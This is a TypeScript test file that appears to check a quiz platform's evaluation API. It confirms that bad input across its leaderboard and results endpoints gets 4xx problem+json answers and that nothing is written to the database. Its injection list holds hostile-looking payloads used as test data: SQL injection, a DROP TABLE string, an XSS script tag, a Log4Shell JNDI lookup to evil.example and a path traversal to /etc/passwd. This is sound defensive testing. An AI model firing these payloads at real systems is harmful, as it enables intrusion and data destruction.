/**
 * Bad input over every evaluation endpoint: malformed and out-of-range parameters, unknown and
 * repeated query keys, wrong content types, oversized bodies, Unicode edge cases and
 * injection-looking strings. Every answer must be a 4xx problem+json naming the problem, never
 * a 5xx, and the database must hold exactly the rows it held before (nothing half-written).
 * Runs on the embedded database and the in-process board (the validation is the same code for
 * every backend; api.postgres-redis.test.ts covers the backends).
 */
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { FORGED_CURSORS, type BadRequestCase } from '@quizmesh/platform/testing';
import {
  asUser,
  makeAttempt,
  makeQuiz,
  rowCounts,
  startEvaluation,
  type EvaluationUnderTest,
  type RowCounts,
} from './harness';

type BadCase = BadRequestCase;

const USER = randomUUID();
const QUIZ = randomUUID();
const injection = [
  "' OR '1'='1' --",
  '"; DROP TABLE "Result"; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '{{7*7}}',
];
const unicode = ['a\u0000b', '\ud800', '\u00ff-raw', '\u202Egnp', '😀', 'a\u0301\u0302\u0303\u0304', 'x'.repeat(5_000)];
// A lone surrogate cannot be percent-encoded as UTF-8: send the bytes a careless client would
// (CESU-8 of U+D800), and a byte that is no UTF-8 at all.
const RAW = new Map([
  ['\ud800', '%ED%A0%80'],
  ['\u00ff-raw', '%FF'],
]);
const enc = (value: string) => RAW.get(value) ?? encodeURIComponent(value);

function paramCases(prefix: string, field: string, values: string[]): BadCase[] {
  return values.map((value) => ({
    name: `${field} = ${JSON.stringify(value.slice(0, 40))}`,
    method: 'get',
    path: prefix.replace(':value', enc(value)),
    status: 400,
    // undecodable bytes fail before the parameter is known: the problem names the path
    field: RAW.has(value) ? 'path' : field,
  }));
}

function pagingCases(path: string): BadCase[] {
  const cases: Array<[string, string]> = [
    ['limit=0', 'query.limit'],
    ['limit=101', 'query.limit'],
    ['limit=-1', 'query.limit'],
    ['limit=1.5', 'query.limit'],
    ['limit=ten', 'query.limit'],
    ['limit=', 'query.limit'],
    ['limit=1&limit=2', 'query.limit'],
    ['limit[$gt]=1', 'limit[$gt]'],
    ['limit=99999999999999999999', 'query.limit'],
    ['offset=10001', 'query.offset'],
    ['offset=-5', 'query.offset'],
    ['sort=score', 'sort'],
  ];
  return cases.map(([query, field]) => ({
    name: `${path}?${query}`,
    method: 'get',
    path: `${path}?${query}`,
    status: 400,
    field,
  }));
}

const uuidValues = ['not-a-uuid', '123', '00000000-0000-0000-0000-00000000000g', ...injection, ...unicode];

const CASES: BadCase[] = [
  // ---------------------------------------------------------------- leaderboards
  ...pagingCases('/api/v1/leaderboards/global'),
  ...pagingCases(`/api/v1/leaderboards/quiz/${QUIZ}`),
  ...pagingCases('/api/v1/leaderboards/weekly/2026-W47'),
  ...pagingCases('/api/leaderboard'),
  ...pagingCases('/api/v1/leaderboards/weekly/current'),
  ...paramCases('/api/v1/leaderboards/weekly/current/players/:value', 'params.userId', uuidValues),
  ...paramCases('/api/v1/leaderboards/quiz/:value', 'params.quizId', uuidValues),
  ...paramCases('/api/v1/leaderboards/weekly/:value', 'params.isoWeek', [
    '2026-W54',
    '2025-W53',
    '2026-W00',
    '2026-47',
    '2026-w47',
    'W47',
    '2026-W47 ',
    ...injection,
    ...unicode,
  ]),
  ...paramCases('/api/v1/leaderboards/global/players/:value', 'params.userId', uuidValues),
  ...paramCases(`/api/v1/leaderboards/quiz/:value/players/${USER}`, 'params.quizId', ['nope', ...injection]),
  ...paramCases(`/api/v1/leaderboards/quiz/${QUIZ}/players/:value`, 'params.userId', ['nope', ...injection]),
  ...paramCases(`/api/v1/leaderboards/weekly/2026-W47/players/:value`, 'params.userId', ['nope']),
  ...['around=26', 'around=-1', 'around=x', 'around=1&around=2', 'limit=5'].map((query): BadCase => ({
    name: `rank ?${query}`,
    method: 'get',
    path: `/api/v1/leaderboards/global/players/${USER}?${query}`,
    status: 400,
    field: query.startsWith('limit') ? 'limit' : 'query.around',
  })),
  // ---------------------------------------------------------------- results
  ...paramCases('/api/v1/results/users/:value', 'params.userId', uuidValues),
  ...paramCases('/api/v1/results/users/:value/stats', 'params.userId', ['nope', ...injection]),
  ...paramCases('/api/v1/results/:value', 'params.attemptId', uuidValues),
  ...paramCases('/api/results/user/:value', 'params.id', uuidValues),
  ...[
    ['limit=0', 'query.limit'],
    ['limit=101', 'query.limit'],
    ['cursor=', 'query.cursor'],
    ['cursor=has%20space', 'query.cursor'],
    [`cursor=${Buffer.from('2026-11-18T08:00:00.000Z|not-a-uuid').toString('base64url')}`, 'query.cursor'],
    [`cursor=${Buffer.from('yesterday|00000000-0000-4000-8000-000000000000').toString('base64url')}`, 'query.cursor'],
    [`cursor=${'A'.repeat(201)}`, 'query.cursor'],
    ['cursor=a&cursor=b', 'query.cursor'],
    ...FORGED_CURSORS.map((cursor) => [`cursor=${cursor}`, 'query.cursor']),
    ['page=2', 'page'],
  ].flatMap(([query = '', field = '']): BadCase[] => [
    {
      name: `results ?${query.slice(0, 40)}`,
      method: 'get',
      path: `/api/v1/results/users/${USER}?${query}`,
      status: 400,
      field,
    },
    {
      name: `seed results ?${query.slice(0, 40)}`,
      method: 'get',
      path: `/api/results/user/${USER}?${query}`,
      status: 400,
      field,
    },
  ]),
  // ---------------------------------------------------------------- retired submit
  {
    name: 'submit with malformed JSON',
    method: 'post',
    path: '/api/results/submit',
    raw: { text: '{"score": 1,', contentType: 'application/json' },
    status: 400,
  },
  {
    name: 'submit as a form',
    method: 'post',
    path: '/api/results/submit',
    raw: { text: 'score=1', contentType: 'application/x-www-form-urlencoded' },
    status: 415,
  },
  {
    name: 'submit as text',
    method: 'post',
    path: '/api/results/submit',
    raw: { text: '{"score":1}', contentType: 'text/plain' },
    status: 415,
  },
  {
    name: 'submit an oversized body',
    method: 'post',
    path: '/api/results/submit',
    body: { padding: 'x'.repeat(200 * 1024) },
    status: 413,
  },
  {
    name: 'submit a pre-scored result',
    method: 'post',
    path: '/api/results/submit',
    body: { userId: USER, quizId: QUIZ, score: 1e9 },
    status: 410,
  },
  {
    name: 'submit JSON null',
    method: 'post',
    path: '/api/results/submit',
    raw: { text: 'null', contentType: 'application/json' },
    status: 400,
  },
  // ---------------------------------------------------------------- nothing there
  { name: 'POST to a leaderboard', method: 'post', path: '/api/v1/leaderboards/global', body: {}, status: 404 },
  { name: 'an unknown board', method: 'get', path: '/api/v1/leaderboards/monthly/2026-11', status: 404 },
];

describe('bad input to evaluation', () => {
  let evaluation: EvaluationUnderTest;
  let before: RowCounts;

  beforeAll(async () => {
    evaluation = await startEvaluation({ backend: 'embedded' });
    const quiz = makeQuiz();
    await evaluation.deliver('quiz.published', quiz.published);
    await evaluation.deliver('quiz.completed', makeAttempt(quiz, { userId: USER }));
    before = await rowCounts(evaluation.prisma);
  });
  afterAll(async () => {
    await evaluation?.stop();
  });

  it.each(CASES.map((c) => [c.name, c] as const))('%s → 4xx problem+json', async (_name, bad) => {
    let req = request(evaluation.url)[bad.method](bad.path).set(asUser(USER, 'admin'));
    if (bad.raw) req = req.set('content-type', bad.raw.contentType).send(bad.raw.text);
    else if (bad.body !== undefined) req = req.send(bad.body as object);
    const res = await req;
    expect(res.status).toBe(bad.status);
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(res.body).toMatchObject({
      status: bad.status,
      title: expect.any(String),
      type: expect.stringMatching(/^https:\/\/quizmesh\.dev\/problems\//),
    });
    if (bad.field) {
      const named = [res.body.detail, ...(res.body.errors ?? []).map((e: { field: string }) => e.field)].join(' ');
      expect(named).toContain(bad.field);
    }
  });

  it('drops events that break their contract, whatever is in them, and answers the sidecar 200', async () => {
    const quiz = makeQuiz();
    const attempt = makeAttempt(quiz);
    const bodies: Array<[string, unknown]> = [
      ['quiz.completed', { ...attempt, userId: injection[1] }],
      ['quiz.completed', { ...attempt, answers: 'all of them' }],
      ['quiz.completed', { ...attempt, late: 'yes' }],
      ['quiz.completed', { ...attempt, quizVersion: 0 }],
      [
        'quiz.completed',
        {
          ...attempt,
          answers: [{ questionId: randomUUID(), optionIds: Array.from({ length: 11 }, () => randomUUID()) }],
        },
      ],
      ['quiz.published', { ...quiz.published, questions: [] }],
      ['quiz.published', { ...quiz.published, title: '' }],
      [
        'user.registered',
        {
          schemaVersion: 1,
          userId: USER,
          email: 'a@example.com',
          displayName: '',
          roles: ['player'],
          registeredAt: 'now',
        },
      ],
      ['user.registered', null],
    ];
    for (const [topic, data] of bodies) await expect(evaluation.deliver(topic, data)).resolves.toBe('DROP');
    const res = await request(evaluation.url)
      .post('/events/quiz.completed')
      .set('content-type', 'application/json')
      .send({ specversion: '1.0' });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ status: 'DROP' });
  });

  it('wrote nothing for any of it', async () => {
    expect(await rowCounts(evaluation.prisma)).toEqual(before);
  });
});
